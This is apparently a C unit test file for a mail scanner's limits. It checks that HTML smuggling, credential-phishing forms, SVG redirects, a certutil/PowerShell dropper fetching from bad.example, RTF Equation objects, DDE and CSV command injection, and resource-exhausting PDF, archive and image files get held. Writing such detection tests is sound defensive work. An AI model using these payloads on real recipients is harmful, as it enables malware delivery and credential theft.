/* What stands behind a limit of a look, or is written in a way that only the target reads: held, never clean. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>
#include <gmime/gmime.h>

#include "content_mail.h"
#include "engine/content/bytes.h"
#include "engine/msg/charset.h"
#include "engine/scan/scan.h"

static struct arena *a;

static int
begin(void **state)
{
    (void)state;
    a = arena_new();
    return 0;
}

static int
end(void **state)
{
    (void)state;
    arena_free(&a);
    return 0;
}

static struct msg *
file(const char *name, const void *p, size_t n)
{
    return content_mail(a, "Please see attached.", name, "application/octet-stream", p, n);
}

static struct msg *
text(const char *name, const char *text)
{
    return file(name, text, strlen(text));
}

static const char *
repeated(const char *s, int n)
{
    struct buf *b = buf_new(a, 0);
    for (int i = 0; i < n; i++)
        buf_str(b, s);
    return buf_cstr(b);
}

/* ------------------------------------------------------------------ pages */

#define SMUGGLING                                                                  \
    "<script>var b=new "                                                           \
    "Blob([Uint8Array.from(atob(\"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA==\"))]);" \
    "a.href=URL.createObjectURL(b);a.download=\"x.exe\";a.click()</script>"

static void
pages(void **state)
{
    static const char *const held[] = {
        "<html>" SMUGGLING,
        "<html><input data-type=x type=password><form action=https://bad.example/>",
        "<html><input type=&#112;assword><form action=\"&#104;ttps://bad.example/\">",
        "<html><base href=https://bad.example/><form action=x><input\nTYPE='PassWord'>",
        "<html><input type=password><button formaction=//bad.example/>",
        "<html><a title=data:image/png href='data:application/zip;base64,UEsDBAoAAAAAAA=='>x</a>",
        "<html><a href='&#100;ata:application/zip;base64,UEsDBAoAAAAAAA=='>x</a>",
        "<html><a href='da\nta:application/zip;base64,UEsDBAoAAAAAAA=='>x</a>",
        "<html><a href='data:application/octet-stream,PK%03%04%0a%00%00%00%00%00'>x</a>",
        "<svg xmlns='http://www.w3.org/2000/svg'/onload=\"location.href=atob('x')\"></svg>",
        "<svg\nonload=\"location.href=atob('x')\"></svg>",
        "<svg title='>' onload=\"location.href=atob('x')\"></svg>",
        "<svg onload=\"&#108;ocation.href=at&#111;b('x')\"></svg>",
        "<svg><script>&#108;ocation.href=&#97;tob('x')</script></svg>",
        "<svg><x:script>location.href=atob('x')</x:script></svg>",
    };
    (void)state;
    for (size_t i = 0; i < sizeof held / sizeof *held; i++) {
        struct msg *m = text(strncmp(held[i], "<svg", 4) == 0 ? "a.svg" : "a.html", held[i]);
        if (!content_held(m))
            printf("# %s\n", held[i]);
        assert_true(content_held(m));
    }
}

static void
long_pages(void **state)
{
    const char *x = repeated("0123456789", 900000);
    struct msg *m;
    (void)state;
    m = text("a.html", arena_printf(a, "<html>%s" SMUGGLING, repeated("<script></script>", 300)));
    assert_non_null(content_found(m, "html-smuggling"));
    m = text("a.html",
             arena_printf(a, "<html><body title=%.9000s onload=location.href=atob(1)>", x));
    assert_non_null(content_found(m, "html-redirect"));
    m = text("a.html", arena_printf(a, "<html><!-- %s -->" SMUGGLING, x));
    assert_string_equal(content_found(m, "html-limit")->kind, "unscannable");
    m = text("a.html", arena_printf(a, "<html><p>%.100s</p>", x));
    assert_false(content_held(m));
    x = repeated("var x=atob('UEsDBAoAAAAAAAAAAAAAAAAAAAAA');", 300);
    m = text("a.html", arena_printf(a, "<html><script>%s</script>", x));
    assert_non_null(content_found(m, "html-limit"));
}

/* A constant that is all padding was read beyond its end. */
static void
padding(void **state)
{
    (void)state;
    const char *page = arena_printf(a, "<script>atob('%s')</script>", repeated("========", 500000));
    assert_false(content_held(text("a.html", page)));
}

/* ------------------------------------------------------------------ scripts */

#define DROPPER                                                                             \
    "\r\npowershell -w hidden -enc AAAA\r\ncertutil -urlcache -f http://bad.example/a.exe " \
    "a.exe\r\nstart a.exe\r\n"

static void
scripts(void **state)
{
    struct buf *wide = buf_new(a, 0);
    struct msg *m;
    (void)state;
    assert_non_null(content_found(text("a.bat", DROPPER), "script-dropper"));
    /* cmd.exe passes over a mark of UTF-16 */
    assert_non_null(content_found(text("a.bat", "\xff\xfe" DROPPER), "script-dropper"));
    buf_add(wide, "\xff\xfe\0\0", 4);
    for (const char *s = DROPPER; *s; s++)
        buf_add(wide, (char[]){*s, 0}, 2);
    assert_non_null(content_found(file("a.js", wide->data, wide->len), "script-dropper"));
    /* half of the bytes in front are zero: no UTF-16 for any program */
    buf_clear(wide);
    for (int i = 0; i < 300; i++)
        buf_add(wide, " ", 2);
    buf_str(wide, repeated(DROPPER, 50));
    assert_non_null(content_found(file("a.bat", wide->data, wide->len), "script-dropper"));
    m = text("a.js", arena_printf(a, "%s" DROPPER, repeated("          ", 450000)));
    assert_non_null(content_found(m, "script-dropper"));
    m = text("a.js", repeated("          ", 450000));
    assert_string_equal(content_found(m, "script-too-big")->kind, "unscannable");
}

/* ------------------------------------------------------------------ files inside of text */

static const char *
uuencoded(const char *name, const char *s)
{
    struct buf *b = buf_new(a, 0);
    size_t n = strlen(s);
    buf_printf(b, "begin 644 %s\n", name);
    for (size_t i = 0; i < n; i += 45) {
        size_t len = n - i < 45 ? n - i : 45;
        buf_char(b, (char)(' ' + len));
        for (size_t k = i; k < i + len; k += 3) {
            unsigned v = 0;
            for (size_t j = 0; j < 3; j++)
                v = v << 8 | (k + j < n ? (unsigned char)s[k + j] : 0);
            for (int shift = 18; shift >= 0; shift -= 6)
                buf_char(b, (char)(' ' + (v >> shift & 63)));
        }
        buf_char(b, '\n');
    }
    buf_str(b, "`\nend\n");
    return buf_cstr(b);
}

static void
in_text(void **state)
{
    const char *raw = arena_printf(a, "From: a@b\n\n%s", uuencoded("a.bat", DROPPER));
    struct msg *m = msg_scan(a, (const unsigned char *)raw, strlen(raw), NULL);
    (void)state;
    assert_string_equal(content_found(m, "script-dropper")->part, "1/u1");
    raw = arena_printf(a, "From: a@b\n\n%s%s", repeated(uuencoded("a.txt", "hello"), 50),
                       uuencoded("a.bat", DROPPER));
    m = msg_scan(a, (const unsigned char *)raw, strlen(raw), NULL);
    assert_string_equal(content_found(m, "too-many-parts")->kind, "unscannable");
}

/* ------------------------------------------------------------------ documents */

static struct msg *
pdf(const char *objects)
{
    const char *all =
        arena_printf(a, "%%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\n%s\n%%%%EOF", objects);
    return text("a.pdf", all);
}

static void
pdfs(void **state)
{
    struct msg *m;
    const char *hex;
    (void)state;
    m = pdf("2 0 obj <</S/URI/URI 3 0 R>> endobj 3 0 obj (https://bad.example/) endobj");
    assert_true(content_has_url(m, "https://bad.example/"));
    /* an object stream that nobody can read, and one behind nine filters */
    m = pdf(
        "2 0 obj <</Type/ObjStm/N 1/First 4/Filter/Other/Length 4>>stream\n7 0 \nendstream endobj");
    assert_string_equal(content_found(m, "pdf-limit")->kind, "unscannable");
    hex = repeated("/AHx", 9);
    m = pdf(arena_printf(
        a, "2 0 obj <</Type/ObjStm/N 1/First 4/Filter[%s]/Length 4>>stream\n37>\nendstream endobj",
        hex));
    assert_string_equal(content_found(m, "pdf-limit")->kind, "unscannable");
    /* each /Launch costs its object */
    m = pdf(arena_printf(a, "2 0 obj <<%s>> endobj", repeated("/Launch ", 100000)));
    assert_non_null(content_found(m, "pdf-limit"));
    assert_true(m->microseconds < 20000000);
    /* parameters that thousands of streams share */
    hex = repeated(
        "3 0 obj <</Filter/FlateDecode/DecodeParms 2 0 R/Length 2>>stream\nxx\nendstream endobj\n",
        5000);
    m = pdf(arena_printf(a, "2 0 obj <<%s>> endobj %s", repeated("/a ", 100000), hex));
    assert_true(m->microseconds < 20000000);
}

static void
rich_text(void **state)
{
    static const char dummy[] = "{\\object{\\*\\objdata 0105000002000000080000000000000000000000}}";
    static const char attack[] = "{\\object{\\*\\objclass Equation.3}{\\*\\objdata "
                                 "01050000020000000b0000004571756174696f6e2e33000000000000000000}}";
    (void)state;
    assert_non_null(
        content_found(text("a.rtf", arena_printf(a, "{\\rtf1 %s}", attack)), "equation-object"));
    struct msg *m = text("a.rtf", arena_printf(a, "{\\rtf1 %s%s}", repeated(dummy, 100), attack));
    assert_string_equal(content_found(m, "too-many-objects")->kind, "unscannable");
    assert_false(content_held(text("a.rtf", arena_printf(a, "{\\rtf1 %s}", "text"))));
}

static void
notebook(void **state)
{
    static const unsigned char section[16] = {0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d,
                                              0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3};
    static const unsigned char store[16] = {0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45,
                                            0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac};
    struct buf *b = buf_new(a, 0);
    (void)state;
    buf_add(b, section, 16);
    for (int i = 0; i < 101; i++) {
        buf_add(b, store, 16);
        buf_add(b, "\4\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0data", 24);
    }
    struct msg *m = file("a.one", b->data, b->len);
    assert_string_equal(content_found(m, "too-many-objects")->kind, "unscannable");
}

static void
put32(unsigned char *p, uint32_t v)
{
    for (int i = 0; i < 4; i++)
        p[i] = (unsigned char)(v >> 8 * i);
}

/* Streams whose chains cross use up what may be read, and the last one, with the macros, was passed over. */
static void
crossing_chains(void **state)
{
    unsigned char *f = arena_alloc(a, 2048), *fat = f + 512, *directory = f + 1024;
    (void)state;
    memset(f + 76, 0xff, 436 + 512);
    memcpy(f, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    f[30] = 9, f[32] = 6, f[44] = 1;
    put32(f + 48, 1);
    put32(f + 60, 0xfffffffe);
    put32(f + 68, 0xfffffffe);
    put32(f + 76, 0);
    put32(fat, 0xfffffffd);
    put32(fat + 4, 0xfffffffe);
    put32(fat + 8, 2); /* leads to itself */
    for (int i = 0; i < 4; i++) {
        unsigned char *e = directory + 128 * i;
        e[0] = (unsigned char)('A' + i), e[64] = 4, e[66] = i ? 2 : 5;
        put32(e + 68, 0xffffffff);
        put32(e + 72, i && i < 3 ? (uint32_t)i + 1 : 0xffffffff);
        put32(e + 76, i ? 0xffffffff : 1);
        put32(e + 116, i ? 2 : 0xfffffffe);
        put32(e + 120, i ? 1000000 : 0);
    }
    struct msg *m = file("a.doc", f, 2048);
    assert_string_equal(content_found(m, "too-many-streams")->kind, "unscannable");
}

/* ------------------------------------------------------------------ archives */

static struct msg *
disk(bool iso, bool udf)
{
    char *p = arena_alloc(a, 40 * 2048);
    if (iso)
        memcpy(p + 16 * 2048, "\1CD001\1", 7);
    if (udf) {
        memcpy(p + (iso ? 18 : 16) * 2048, "\0BEA01\1", 7);
        memcpy(p + 19 * 2048, "\0NSR02\1", 7);
    }
    return file("a.iso", p, 40 * 2048);
}

static void
disks(void **state)
{
    (void)state;
    assert_non_null(content_found(disk(true, true), "archive-ambiguous"));
    assert_null(content_found(disk(true, false), "archive-ambiguous"));
    assert_string_equal(content_found(disk(false, true), "archive-broken")->kind, "unscannable");
}

/* Behind other bytes, with numbers that only the wide directory has. */
static void
zip64_behind(void **state)
{
    static const char end[] = "PK\6\7\0\0\0\0\0\0\0\0\0\0\0\0\1\0\0\0PK\5\6\0\0\0\0\xff\xff\xff\xff"
                              "\xff\xff\xff\xff\xff\xff\xff\xff\0";
    struct buf *b = buf_new(a, 0);
    (void)state;
    buf_str(b, repeated("junk", 100));
    buf_add(b, end, sizeof end);
    struct msg *m = file("a.zip", b->data, b->len);
    assert_string_equal(content_found(m, "archive-ambiguous")->kind, "unscannable");
}

/* ------------------------------------------------------------------ rules */

/* A mail with which the rules were not done is not one that no rule hits. */
static void
rules_time(void **state)
{
    struct msg *m = msg_new(a);
    (void)state;
    scan_structure.run(&(struct scan_ctx){m, (const unsigned char *)"", 0});
    assert_string_equal(policy_verdict(m), "clean");
    msg_add_anomaly(m, "rules-time");
    scan_structure.run(&(struct scan_ctx){m, (const unsigned char *)"", 0});
    assert_string_equal(policy_decide(m, NULL).reason, "rules-time");
}

/* For which lists there was no room on the way to the worker: held, for that organisation alone. */
static void
lists_left_out(void **state)
{
    struct envelope env = {"", "", "", "", "", NULL, 0, "in", NULL};
    struct policy_for one = {.recipient = "a@one.example", .org = "one"},
                      two = {.recipient = "a@two.example", .org = "two"};
    json_t *lists = json_pack("{s:{s:b}}", LISTS_LEFT_OUT, "one", 1);
    static const char raw[] = "From: a@b\n\nhello\n";
    (void)state;
    env.lists = lists;
    struct msg *m = msg_scan(a, (const unsigned char *)raw, sizeof raw - 1, &env);
    assert_string_equal(policy_decide(m, &one).reason, "lists-left-out");
    assert_string_not_equal(policy_decide(m, &two).reason, "lists-left-out");
    json_decref(lists);
}

/* ------------------------------------------------------------------ pictures */

/* Frames of 16 million pixels on a screen of one: each costs what it is, not what the header says. */
static void
frames(void **state)
{
    static const unsigned char head[] = "GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0";
    static const unsigned char frame[] = "\x2c\0\0\0\0\xa0\x0f\xa0\x0f\0\2\1\x44\0";
    struct buf *gif = buf_new(a, 0), *b = buf_new(a, 0);
    (void)state;
    buf_add(gif, head, sizeof head - 1);
    for (int i = 0; i < 4; i++)
        buf_add(gif, frame, sizeof frame - 1);
    char *b64 = g_base64_encode((const unsigned char *)gif->data, gif->len);
    buf_str(b, "From: a@b\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n");
    for (int i = 0; i < 5; i++)
        buf_printf(b, "--b\nContent-Type: image/gif\nContent-Transfer-Encoding: base64\n\n%s\n",
                   b64);
    g_free(b64);
    struct msg *m = msg_scan(a, (const unsigned char *)b->data, b->len, NULL);
    assert_string_equal(m->exceptions[0].code, "too-many-pixels");
}

/* ------------------------------------------------------------------ XML and tables */

static void
long_tables(void **state)
{
    const char *x = repeated("<c><v>0123456789</v></c>\n", 400000); /* 10 MB */
    struct msg *m;
    (void)state;
    m = text(
        "a.xml",
        arena_printf(a,
                     "<?xml version='1.0'?><w>%s<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe x"
                     "</w:instrText><w:fldChar w:fldCharType='end'/></w>",
                     x));
    assert_non_null(content_found(m, "dde-command"));
    m = text("a.xml",
             arena_printf(
                 a, "<?xml version='1.0'?><w>%s<w:binData>AAAAAAAAAAAAAAAAAAAAAAAA</w:binData></w>",
                 repeated("<w:binData>AAAAAAAAAAAAAAAA</w:binData>", 100)));
    assert_string_equal(content_found(m, "too-many-objects")->kind, "unscannable");
    x = repeated("1,2,3,4,5,6,7,8,9,0\n", 220000);
    m = text("a.csv", arena_printf(a, "%s=cmd|' /C calc'!A0\n", x));
    assert_non_null(content_found(m, "dde-command"));
    assert_false(content_held(text("a.csv", x)));
}

/* Messages in messages: what they hold at the same time is one budget. */
static void
messages(void **state)
{
    const char *inner = repeated("Much text of a file, to fill it. ", 1400000); /* 46 MB */
    (void)state;
    for (int i = 0; i < 3; i++)
        inner = arena_printf(
            a, "From: a@b\nMIME-Version: 1.0\nContent-Type: text/x-y; name=m%d.eml\n\n%s", i,
            inner);
    struct msg *m = text("a.eml", inner);
    assert_string_equal(m->exceptions[0].code, "archive-bytes");
}

int
main(void)
{
#define TEST(name, fn)             \
    {                              \
        name, fn, begin, end, NULL \
    }
    const struct CMUnitTest tests[] = {
        TEST("T-E3 15 ways to write a page that only a browser reads", pages),
        TEST("T-E3 a page behind limits", long_pages),
        TEST("T-M3 a constant of padding alone", padding),
        TEST("T-E7 scripts behind marks, zeros and much of nothing", scripts),
        TEST("T-M1 files inside of text, and the 51st", in_text),
        TEST("T-A1 PDF: references, filters, actions without end", pdfs),
        TEST("T-E7 the 101st object of rich text", rich_text),
        TEST("T-E7 the 101st file of a notebook", notebook),
        TEST("T-E7 commands behind much of a table", long_tables),
        TEST("T-A1 messages in messages", messages),
        TEST("rules that were not done", rules_time),
        TEST("F27 lists that were left out", lists_left_out),
        TEST("T-A8 frames that are larger than the picture", frames),
        TEST("T-A5 a disk image for two programs", disks),
        TEST("T-A5 a Zip64 archive behind other bytes", zip64_behind),
        TEST("T-A1 streams that use up what others need", crossing_chains),
    };
    g_mime_init();
    charset_preload();
    scanners_prepare();
    return cmocka_run_group_tests_name("content_limits", tests, NULL, NULL);
}
